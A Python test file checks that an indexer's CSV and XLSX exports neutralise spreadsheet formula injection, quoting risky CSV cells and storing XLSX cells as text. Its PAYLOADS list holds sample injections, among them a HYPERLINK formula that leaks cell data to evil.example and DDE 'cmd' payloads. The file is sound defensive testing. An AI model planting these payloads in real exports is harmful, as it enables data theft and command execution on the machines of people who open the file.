"""Exports never hand a spreadsheet a formula: CSV cells that start like one get a leading
`'` (the OWASP rule), XLSX cells are always strings, and the text itself is unchanged.

The report is SYNTHETIC, built here with paragraphs that start as formula-injection payloads.
"""

from __future__ import annotations

import csv
import json
import re
import zipfile
from pathlib import Path

from openpyxl import load_workbook

from api.cli import main
from corpus.model import Paragraph, Report
from corpus.symbols import document_url
from indexer.citation_graph import edges_csv
from indexer.csv_cells import csv_cell
from indexer.sets import ParagraphRef, SetStore, lookup
from indexer.sqlite_backend import SQLiteBackend

SYMBOL = "A/HRC/96/66"
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"انقر هنا")',
    "=cmd|' /C calc'!A0",
    "+1+1 تكلفة",
    "-2+3 رقم",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 بعد جدولة",
    "\r=1+1 بعد سطر",
    "نص عادي = 1+1",
]


def _data(tmp_path: Path) -> Path:
    data = tmp_path / "data"
    backend = SQLiteBackend(data)
    paragraphs = [Paragraph(n, text, ["SYNTHETIC"]) for n, text in enumerate(PAYLOADS, 1)]
    backend.ingest(Report(SYMBOL, "ar", title="SYNTHETIC formulas", paragraphs=paragraphs),
                   "f" * 64)
    stored = [backend.get_paragraph(SYMBOL, "ar", n).text for n in range(1, len(PAYLOADS) + 1)]
    refs = [ParagraphRef(SYMBOL, "ar", n) for n in range(1, len(PAYLOADS) + 1)]
    SetStore.in_data_dir(data).create("formulas", lookup(refs, backend))
    backend.close()
    (tmp_path / "stored.json").write_text(json.dumps(stored), encoding="utf-8")
    return data


def _stored(tmp_path: Path) -> list[str]:
    return json.loads((tmp_path / "stored.json").read_text(encoding="utf-8"))


def test_csv_cells_that_start_like_formulas_are_quoted(tmp_path: Path) -> None:
    data, out = _data(tmp_path), tmp_path / "out.csv"
    assert main(["--data", str(data), "export", "--set", "formulas", "--format", "csv",
                 "-o", str(out)]) == 0
    with out.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    stored = _stored(tmp_path)
    assert [r["text"] for r in rows] == [csv_cell(text) for text in stored]
    for row, text in zip(rows, stored, strict=True):
        if text[0] in "=+-@\t\r":
            assert row["text"] == "'" + text
        else:
            assert row["text"] == text
    assert not any(r[c][:1] in ("=", "+", "-", "@", "\t", "\r") for r in rows for c in r)


def test_xlsx_cells_are_text_with_the_text_unchanged(tmp_path: Path) -> None:
    data, out = _data(tmp_path), tmp_path / "out.xlsx"
    assert main(["--data", str(data), "export", "--set", "formulas", "--format", "xlsx",
                 "-o", str(out)]) == 0
    with zipfile.ZipFile(out) as z:
        sheet = next(n for n in z.namelist() if n.startswith("xl/worksheets/"))
        assert b"<f>" not in z.read(sheet) and b"<f " not in z.read(sheet)
    rows = list(load_workbook(out).active.iter_rows(min_row=2))
    texts = [row[4] for row in rows]
    # A carriage return is stored as Excel escapes it (_x000D_), which Excel reads back.
    assert [_excel_text(c.value) for c in texts] == _stored(tmp_path)
    assert {c.data_type for c in texts} == {"s"}
    assert all(c.data_type != "f" for row in rows for c in row)
    # The link is a real hyperlink of the sheet (a relationship), not a HYPERLINK formula.
    links = [row[6] for row in rows]
    assert {c.hyperlink.target for c in links} == {document_url(SYMBOL, "ar")}
    assert {c.value for c in links} == {document_url(SYMBOL, "ar")}


def _excel_text(value: str) -> str:
    return re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m[1], 16)), value)


def test_graph_csv_quotes_formula_cells() -> None:
    graph = {"edges": [{"source": "=1+1", "target": "A/69/262", "kind": "document",
                        "resolved": False, "weight": 1, "paragraphs": [3]}]}
    assert edges_csv(graph).splitlines()[1].startswith("'=1+1,A/69/262")
